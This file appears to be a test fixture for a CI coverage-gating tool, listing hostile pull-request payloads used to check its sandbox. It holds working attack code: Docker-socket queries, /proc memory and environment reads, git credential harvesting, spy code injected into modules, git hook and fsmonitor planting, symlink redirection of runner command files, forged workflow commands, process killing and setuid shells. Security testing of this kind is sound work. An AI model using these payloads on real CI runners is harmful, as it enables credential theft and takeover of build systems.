"""Hostile code of a pull request, by what it is after. Each says in /tmp/loot that it ran, and what it got."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, field

from covgate.errors import ExitCode

FORGED = "f0rged-by-the-tests"
"""What no attack may get into a report, a log's commands or a file of the runner."""

TOOLS = f'''
import contextlib, ctypes, os, pathlib, shutil, signal, socket, subprocess, sys, time
LOOT = pathlib.Path("/tmp/loot")
FORGED = "{FORGED}"
COMMANDS = ("env", "path", "output", "state", "summary")


def loot(what, name="loot"):
    with (LOOT / name).open("ab") as file:
        file.write(what if isinstance(what, bytes) else str(what).encode() + b"\\n")


def attempt(do, *args):
    """Whatever is refused, the next attempt follows."""
    try:
        return do(*args)
    except BaseException as exc:
        loot(f"{{do.__name__}} {{args!r:.90}}: {{exc!r}}", "refused")


def overwrite(path, text):
    """Append to a file that must not be writable; say so when it was."""
    with open(path, "a") as file:
        file.write(text)
    loot(path, "written")


def daemon(work):
    """Run work in a process that belongs to nobody."""
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
        signal.signal(number, signal.SIG_IGN)
    with contextlib.suppress(BaseException):
        work()
    os._exit(0)


def ask_docker():
    for query in ("/containers/json", *(f"/containers/{{i}}/json" for i in os.environ.get("HOSTNAME", "x").split())):
        with socket.socket(socket.AF_UNIX) as engine:
            engine.settimeout(5)
            engine.connect("/var/run/docker.sock")
            engine.sendall(f"GET {{query}} HTTP/1.0\\r\\n\\r\\n".encode())
            answer = b""
            while more := engine.recv(65536):
                answer += more
            loot(answer)
            if query == "/containers/json":
                import re
                for one in set(re.findall(rb'"Id":"([0-9a-f]{{64}})"', answer)):
                    with socket.socket(socket.AF_UNIX) as again:
                        again.connect("/var/run/docker.sock")
                        again.sendall(b"GET /containers/" + one + b"/json HTTP/1.0\\r\\n\\r\\n")
                        while more := again.recv(65536):
                            loot(more)


SPY = """
def _spy():
    import os, sys
    if any(name.startswith("INPUT_") for name in os.environ):
        with open("/tmp/loot/loot", "a") as file:
            file.write(repr(dict(os.environ)))
_spy()
"""


def rewrite(*folders, suffix=".py", text=SPY):
    for folder in folders:
        for path in pathlib.Path(folder).rglob(f"*{{suffix}}"):
            with contextlib.suppress(OSError):
                overwrite(path, text)


loot("ran", "ran")
'''

RUNS = """
import unittest


class Attack(unittest.TestCase):
    def test_attack(self):
        attempt(attack)
"""


@dataclass(frozen=True, slots=True, kw_only=True)
class Attack:
    """Files of the pull request, and how the step is set up; `ends` is how a run must end all the same."""

    files: Mapping[str, str] = field(default_factory=dict)
    links: Mapping[str, str] = field(default_factory=dict)
    """Committed symbolic links: name to target."""
    inputs: Mapping[str, str] = field(default_factory=dict)
    pushed: bool = False
    """A push to the default branch, which records, in place of a pull request."""
    runs: bool = True
    """Whether the hostile code is expected to have run."""
    ends: int = ExitCode.RULE_BROKEN
    quoted: bool = False
    """Whether the report quotes what the attack said, as text."""


def of_test(code: str, files: Mapping[str, str] | None = None, **more: object) -> Attack:
    """An attack from a test; `code` defines `attack`."""
    return Attack(files={"test_evil.py": TOOLS + code + RUNS, **(files or {})}, **more)  # type: ignore[arg-type]


PLUGIN = {"pyproject.toml": "[tool.coverage.run]\nsource = ['calc']\nbranch = true\nplugins = ['evil']\n"}


def of_plugin(code: str, **more: object) -> Attack:
    """An attack from a plugin of coverage: it is loaded in the suite, and where the data is analysed."""
    plugin = TOOLS + code + "\n\ndef coverage_init(reg, options):\n    attempt(attack)\n"
    return Attack(files={"evil.py": plugin, **PLUGIN}, **more)  # type: ignore[arg-type]


def of_build(code: str, **more: object) -> Attack:
    """An attack from `setup.py`, while the project is installed."""
    inputs = {"install-command": "uv pip install --quiet coverage && python evil_setup.py"}
    return Attack(files={"evil_setup.py": TOOLS + code + "\n\nattempt(attack)\n"}, inputs=inputs, **more)  # type: ignore[arg-type]


READ_PROCESSES = """
def attack():
    for process in pathlib.Path("/proc").glob("[0-9]*"):
        for name in ("environ", "cmdline"):
            attempt(lambda p: loot(p.read_bytes()), process / name)
        for fd in attempt(list, (process / "fd").glob("*")) or ():
            attempt(lambda p: loot(os.readlink(p)), fd)
        attempt(lambda p: loot(os.pread(os.open(p, os.O_RDWR), 100, 0)), process / "mem")
        if process.name != str(os.getpid()):
            libc = ctypes.CDLL(None, use_errno=True)
            if process.name == "1" and libc.ptrace(16, 1, 0, 0) == 0:
                loot("ptrace", "written")
"""

KILL = """
def attack():
    for pid in (1, os.getppid()):
        for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
            if pid == 1:
                attempt(os.kill, pid, number)
    def again():
        # Whoever comes as this user, to end what runs as this user, dies first.
        end = time.time() + 60
        while time.time() < end:
            for p in pathlib.Path("/proc").glob("[0-9]*"):
                with contextlib.suppress(Exception):
                    if int(p.name) not in (os.getpid(), PARENT) and p.stat().st_uid == os.getuid():
                        if b"setpriv" in (p / "cmdline").read_bytes() or b"kill" in (p / "cmdline").read_bytes():
                            os.kill(int(p.name), 9)
    PARENT = os.getpid()
    daemon(again)
"""

FAILING = """
import sysconfig
code = '''
import os, sys
if any("probe" in word for word in sys.orig_argv):
    print("", "::error::{forged}", "##[error]{forged}", "", sep=chr(10), file=sys.stderr)
    sys.stderr.flush()
    os._exit(1)
'''
site = pathlib.Path(sysconfig.get_path("purelib"))
(site / "fails.py").write_text(code)
(site / "fails.pth").write_text("import fails\\n")
"""
"""Python's start fails where data is analysed, with workflow commands as what it says."""

ATTACKS: Mapping[str, Attack] = {
    "docker-socket": of_test("attack = ask_docker\n"),
    "docker-socket-from-a-build": of_build("attack = ask_docker\n"),
    "docker-socket-from-a-plugin": of_plugin("attack = ask_docker\n"),
    "templates": of_test("def attack():\n    rewrite('/opt/covgate', suffix='.j2', text=FORGED)\n"),
    "modules": of_test("def attack():\n    rewrite('/opt/covgate')\n"),
    "modules-from-a-build": of_build("def attack():\n    rewrite('/opt/covgate')\n"),
    "modules-on-a-push": of_test("def attack():\n    rewrite('/opt/covgate')\n", pushed=True, ends=ExitCode.PASSED),
    "standard-library": of_test("def attack():\n    rewrite(os.path.dirname(os.__file__))\n"),
    "names-and-certificates": of_test("""
def attack():
    for path in ("/etc/hosts", "/etc/nsswitch.conf", "/etc/resolv.conf", "/etc/ssl/certs/ca-certificates.crt",
                 "/etc/ld.so.preload", "/etc/gitconfig", "/etc/passwd", "/usr/bin/git"):
        attempt(overwrite, path, "# " + FORGED)
"""),
    "git-credentials": of_test("""
def attack():
    for path in [*pathlib.Path(".git").rglob("config*"), *pathlib.Path("/github").rglob("git-credentials*")]:
        attempt(lambda p: loot(p.read_bytes()), path)
    loot(subprocess.run(["git", "config", "--list"], capture_output=True).stdout)
"""),
    "runner-files": of_test("""
def attack():
    for name in COMMANDS:
        attempt(overwrite, f"/github/file_commands/{name}", f"{FORGED}={FORGED}\\n")
        attempt(os.replace, __file__, f"/github/file_commands/{name}")
    attempt(overwrite, "/github/workflow/event.json", FORGED)
    attempt(overwrite, "/github/home/.profile", FORGED)
"""),
    "daemon": of_test("""
def attack():
    def work():
        end = time.time() + 90
        while time.time() < end:
            for path in (*map("/github/file_commands/{}".format, COMMANDS), "/github/workflow/event.json"):
                attempt(overwrite, path, f"{FORGED}={FORGED}\\n")
            for name in ("result.json", "comment.md", "summary.md"):
                attempt(pathlib.Path(".covgate", name).write_text, FORGED)
            for place in pathlib.Path("/tmp").rglob("answer*"):
                attempt(place.write_text, FORGED)
            os.write(1, b"\\n::error::%s\\n##[error]%s\\n" % (FORGED.encode(), FORGED.encode()))
            os.write(2, b"\\n::error::%s\\n" % FORGED.encode())
            time.sleep(0.01)
    daemon(work)
    def read():
        with open("/proc/self/fd/1", "rb") as pipe:
            while True:
                loot(pipe.read1(10))
                loot("read the log", "written")
    daemon(read)
"""),
    "error-stream": of_test("""
def attack():
    os.write(2, b"\\n::error::%s\\n" % FORGED.encode() * 20)
"""),
    "pipes-held": of_plugin("""
def attack():
    daemon(lambda: time.sleep(250))
"""),
    "stop-token-guessed": of_test("""
def attack():
    os.write(1, b"\\n::stop-commands::x\\n::x::\\n::resume::\\n::error::%s" % FORGED.encode())
"""),
    "failing-analysis": Attack(
        inputs={"install-command": "uv pip install --quiet coverage && python plant.py"},
        files={"plant.py": TOOLS + FAILING.format(forged=FORGED)},
        quoted=True,
        ends=ExitCode.BAD_INPUT,
    ),
    "report-folder-committed-as-a-link": Attack(
        links={".covgate": "/github/file_commands"}, runs=False, ends=ExitCode.BAD_INPUT
    ),
    "report-folder-below-a-committed-link": Attack(
        links={"out": "/github"}, inputs={"report-dir": "out/file_commands"}, runs=False, ends=ExitCode.BAD_INPUT
    ),
    "report-committed-as-a-link": Attack(
        links={
            ".covgate/result.json": "/github/file_commands/env",
            ".covgate/comment.md": "/github/file_commands/path",
            ".covgate/summary.md": "/github/workflow/event.json",
        },
        runs=False,
    ),
    "report-replaced-by-links": of_test("""
def attack():
    for name, target in {"result.json": "env", "comment.md": "path", "summary.md": "state"}.items():
        path = pathlib.Path(".covgate", name)
        attempt(lambda p: p.unlink(missing_ok=True), path)
        attempt(path.symlink_to, f"/github/file_commands/{target}")
"""),
    "report-folder-replaced-by-a-link": of_test("""
def attack():
    attempt(os.rename, ".covgate", "moved")
    attempt(os.symlink, "/github/file_commands", ".covgate")
"""),
    "project-folder-replaced-by-a-link": Attack(
        files={
            "pkg/lib.py": "a = 1\n",
            "pkg/test_evil.py": TOOLS
            + """
import lib

def attack():
    attempt(os.rename, os.getcwd(), "../moved")
    attempt(os.symlink, "/github/file_commands", "../pkg")
"""
            + RUNS,
        },
        inputs={"working-directory": "pkg"},
        ends=ExitCode.PASSED,
    ),
    "endless-install": Attack(
        files={"plant.py": TOOLS + "time.sleep(600)\n"},
        inputs={"install-command": "python plant.py", "timeout-minutes": "0.1"},
        ends=ExitCode.BAD_INPUT,
    ),
    "false-record": of_test(
        """
def attack():
    for name in ("history.jsonl", "trending.json"):
        attempt(lambda p: (p.parent.mkdir(exist_ok=True), overwrite(p, FORGED)), pathlib.Path("records", name))
    attempt(os.rename, "records", "moved")
""",
        inputs={"history-dir": "records"},
        pushed=True,
        ends=ExitCode.PASSED,
    ),
    "records-behind-a-committed-link": Attack(
        files={"elsewhere/kept": ""},
        links={"records": "elsewhere"},
        inputs={"history-dir": "records/inner"},
        pushed=True,
        runs=False,
        ends=ExitCode.BAD_INPUT,
    ),
    "build-back-end": Attack(
        files={
            "pkg/pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = 'back'\nbackend-path = ['.']\n",
            "pkg/back.py": TOOLS + "attempt(ask_docker)\nattempt(rewrite, '/opt/covgate')\n"
            "attempt(overwrite, '/github/file_commands/env', FORGED)\n",
        },
        inputs={"install-command": "uv pip install --quiet coverage && (pip install --no-index ./pkg || true)"},
    ),
    "answer-flooded": of_plugin(
        """
def attack():
    pipes = [int(fd) for fd in os.listdir("/proc/self/fd") if int(fd) > 2]
    def flood():
        while True:
            for fd in (1, 2, *pipes):
                with contextlib.suppress(OSError):
                    os.write(fd, b"{" * 4000)
    daemon(flood)
""",
        ends=ExitCode.CANNOT_JUDGE,
    ),
    "processes": of_test(READ_PROCESSES),
    "processes-from-a-plugin": of_plugin(READ_PROCESSES),
    "git-moved-away": of_test("""
def attack():
    for name in (".git", os.getcwd()):
        attempt(os.rename, name, name + "-moved")
    attempt(shutil.rmtree, ".git")
    if not os.path.exists(".git"):
        subprocess.run(["git", "init"])
        loot(".git", "written")
"""),
    "git-hooks": of_test("""
def attack():
    program = pathlib.Path.cwd() / "program"
    program.write_text("#!/bin/sh\\n(env; id -u) >> /tmp/loot/program\\n")
    program.chmod(0o755)
    for key in ("core.fsmonitor", "filter.x.clean", "filter.x.smudge", "diff.external", "core.sshCommand"):
        if subprocess.run(["git", "config", key, str(program)]).returncode == 0:
            loot(key, "written")
    for hook in ("post-checkout", "post-index-change", "pre-push", "reference-transaction"):
        attempt(shutil.copy, program, f".git/hooks/{hook}")
    for name in ("config", "index", "HEAD", "info/attributes"):
        attempt(overwrite, f".git/{name}", "")
    pathlib.Path(".gitattributes").write_text("* filter=x diff=x\\n")
    attempt(lambda: os.utime("calc/__init__.py"))
"""),
    "kill": of_test(KILL),
    "survivors": of_test("""
def attack():
    def fork_again():
        end = time.time() + 100
        while time.time() < end:
            if os.fork():
                time.sleep(0.005)
                os._exit(0)
            os.setsid()
            attempt(pathlib.Path(".covgate/result.json").write_text, FORGED)
    for _ in range(40):
        daemon(fork_again)
    for _ in range(150):
        daemon(lambda: time.sleep(250))
"""),
    "setuid": of_test("""
def attack():
    shell = shutil.copy("/bin/sh", "shell")
    os.chmod(shell, 0o6755)
    os.mkdir("group")
    os.chmod("group", 0o2777)
    for argv in (["su", "-c", "id"], ["mount", "-t", "tmpfs", "x", "/mnt"], ["unshare", "-Ur", "id"]):
        attempt(lambda a: subprocess.run(a, stdin=subprocess.DEVNULL, check=True, timeout=5), argv)
    with open("/proc/self/status") as status:
        loot(status.read(), "status")
"""),
    "workspace-closed": of_test("""
def attack():
    deep = os.getcwd()
    os.mkdir("deep")
    os.chdir("deep")
    for _ in range(300):
        os.mkdir("d" * 40)
        os.chdir("d" * 40)
    os.chdir(deep)
    os.mkdir("closed")
    pathlib.Path("closed/file").write_text("")
    os.chmod("closed/file", 0)
    os.chmod("closed", 0)
    os.mkfifo("pytest.ini")
    os.mkfifo("setup.cfg")
    attempt(os.chmod, ".", 0)
"""),
    "plugin-answers-for-covgate": of_plugin(
        """
def attack():
    import json
    record = {"s": [1], "m": [], "x": [], "b": []}
    forged = {"foreign": [], "branches": True, "lost": 0, "gone": [], "hidden": [], "changed": {}, "unloaded": [],
              "problems": [], "warnings": [], "files": {"../../github/file_commands/env": record}}
    json.dump = lambda answer, file, **_: file.write(json.dumps(forged if "files" in answer else answer))
""",
        ends=ExitCode.CANNOT_JUDGE,
    ),
    "plugin-speaks-in-the-report": of_plugin(
        """
def attack():
    import warnings
    from coverage.exceptions import CoverageWarning
    text = f"x\\n::error::{FORGED}\\n##[error]{FORGED}\\n# [{FORGED}](https://example.com) @all"
    warnings.warn(text, CoverageWarning)
    print(f"\\n::error::{FORGED}", flush=True)
    print(f"\\n::error::{FORGED}", file=sys.stderr, flush=True)
""",
        quoted=True,
    ),
    "report-of-coverage-takes-a-credential-along": of_test(
        "def attack():\n    pass\n",
        {
            "pyproject.toml": "[tool.coverage.run]\nsource = ['calc']\nbranch = true\n"
            "[tool.coverage.html]\nextra_css = '/github/runner_temp/git-credentials-1.config'\n"
        },
        inputs={"reports": "coverage-html"},
        ends=ExitCode.BAD_INPUT,
    ),
    "pipes-that-git-reads": of_build("""
def attack():
    for folder in ("", "calc/"):
        for name in (".gitignore", ".gitattributes", ".mailmap"):
            pathlib.Path(folder + name).unlink(missing_ok=True)
            os.mkfifo(folder + name)
"""),
    "pipes-that-git-reads-from-a-test": of_test("""
def attack():
    for folder in ("", "calc/"):
        for name in (".gitignore", ".gitattributes", ".mailmap", "result.json"):
            pathlib.Path(folder + name).unlink(missing_ok=True)
            os.mkfifo(folder + name)
"""),
    "home-deeper-than-it-can-be-removed": of_test("""
def attack():
    for start in (os.environ["HOME"], os.environ["TMPDIR"], os.path.dirname(os.environ["COVERAGE_FILE"])):
        os.chdir(start)
        for _ in range(1500):
            os.mkdir("d")
            os.chdir("d")
    os.chdir("/")
"""),
    "programs-in-the-environment": of_build("""
def attack():
    # Whatever starts this interpreter as another user says so.
    import sysconfig
    site = pathlib.Path(sysconfig.get_path("purelib"))
    code = "import os\\nif os.getuid() != 60606: open('/tmp/loot/program', 'a').write('x')\\n"
    (site / "sitecustomize.py").write_text(code)
    (site / "says.py").write_text(code)
    (site / "says.pth").write_text("import says\\n")
"""),
    "programs-by-the-names-covgate-starts": of_test("""
def attack():
    for folder in (".", "calc", os.environ["HOME"], os.environ["TMPDIR"], "/usr/local/bin", "/usr/local/sbin", "/tmp"):
        for name in ("git", "uv", "find", "chown", "setpriv", "prlimit", "python3", "sh", "grep"):
            program = pathlib.Path(folder, name)
            if not program.exists():
                attempt(program.write_text, "#!/bin/sh\\n(env; id -u) >> /tmp/loot/program\\n")
                attempt(program.chmod, 0o755)
    for name in ("subprocess", "json", "jinja2", "covgate", "encodings", "sitecustomize"):
        attempt(pathlib.Path(name + ".py").write_text, "open('/tmp/loot/program', 'a').write('x')")
"""),
    "clone-inside-with-programs": of_test("""
def attack():
    program = pathlib.Path.cwd() / "program"
    program.write_text("#!/bin/sh\\n(env; id -u) >> /tmp/loot/program\\n")
    program.chmod(0o755)
    subprocess.run(["git", "init", "-q", "calc/inner"], check=True)
    for key in ("core.fsmonitor", "core.sshCommand", "core.hooksPath", "core.pager", "core.editor", "filter.x.clean"):
        subprocess.run(["git", "-C", "calc/inner", "config", key, str(program)], check=True)
    subprocess.run(["git", "-C", "calc/inner", "config", "include.path", "/github/file_commands/env"], check=True)
    pathlib.Path("calc/inner/.gitattributes").write_text("* filter=x\\n")
    shutil.copytree("calc/inner", "calc/bare")
"""),
    "who-ends-it-is-slowed-down": of_test("""
def attack():
    def hunt():
        end = time.time() + 60
        while time.time() < end:
            for p in pathlib.Path("/proc").glob("[0-9]*"):
                pid = int(p.name)
                if pid != os.getpid():
                    for do in (lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)),
                               lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
                               lambda: os.kill(pid, signal.SIGSTOP)):
                        with contextlib.suppress(OSError):
                            if p.stat().st_uid != os.getuid():
                                do()
                                if pid == 1:
                                    loot(pid, "written")
    for _ in range(4):
        daemon(hunt)
"""),
    "temporary-files-of-covgate": of_test("""
def attack():
    folder = pathlib.Path(os.environ["COVERAGE_FILE"]).parent
    for path in (folder, folder.parent, folder.parent / "project", *pathlib.Path("/tmp").glob("covgate-*")):
        attempt(os.rename, path, str(path) + "-moved")
        attempt(os.symlink, "/github/file_commands", path)
        attempt(os.rmdir, path)
    for number in range(20):
        (folder / f".coverage.{number}").symlink_to("/github/workflow/event.json")
    os.mkfifo(folder / ".coverage.pipe")
    (folder / ".coverage.folder").mkdir()
"""),
    "cache-folder": of_test("""
def attack():
    cache = pathlib.Path(os.environ["UV_CACHE_DIR"]).parent
    program = "#!/bin/sh\\n(env; id -u) >> /tmp/loot/program\\n"
    for name in ("git", "uv", "python3", "uv/uv", ".git/hooks/post-checkout", "python/bin/python3"):
        (cache / name).parent.mkdir(parents=True, exist_ok=True)
        attempt((cache / name).write_text, program)
        attempt((cache / name).chmod, 0o6755)
    attempt((cache / ".git" / "config").write_text, f"[core]\\n\\tfsmonitor = {cache}/git\\n")
    attempt((cache / "link").symlink_to, "/github/file_commands")
    attempt(os.mkfifo, cache / "pipe")
    for path in (cache.parent / "x", cache.parent.parent / ".gitconfig"):
        attempt(overwrite, path, FORGED)
    attempt(os.rename, cache, str(cache) + "-moved")
    attempt(os.rmdir, cache)
    attempt(os.symlink, "/github/file_commands", cache)
"""),
    "setup-command-in-a-pull-request": Attack(
        files={"pyproject.toml": "[tool.covgate]\nsetup-command = 'id > /tmp/loot/program'\n"},
        runs=False,
        ends=ExitCode.BAD_INPUT,
    ),
    "setup-command-that-looks-for-files": Attack(
        files=dict.fromkeys(("profile", "tool", ".bashrc", ".profile", "apt.conf"), "id >> /tmp/loot/program\n"),
        inputs={
            "setup-command": "for f in profile tool .bashrc .profile; do test ! -e $f; sh $f 2>/dev/null || true; done"
        },
        runs=False,
    ),
    "python-version-names-a-program": Attack(
        files={".python-version": "/github/workspace/python\n", "python": "#!/bin/sh\nid >> /tmp/loot/program\n"},
        runs=False,
        ends=ExitCode.BAD_INPUT,
    ),
    "project-file-is-a-link-to-a-credential": Attack(
        links={".python-version": "/github/runner_temp/git-credentials-1.config"},
        runs=False,
        ends=ExitCode.BAD_INPUT,
    ),
}
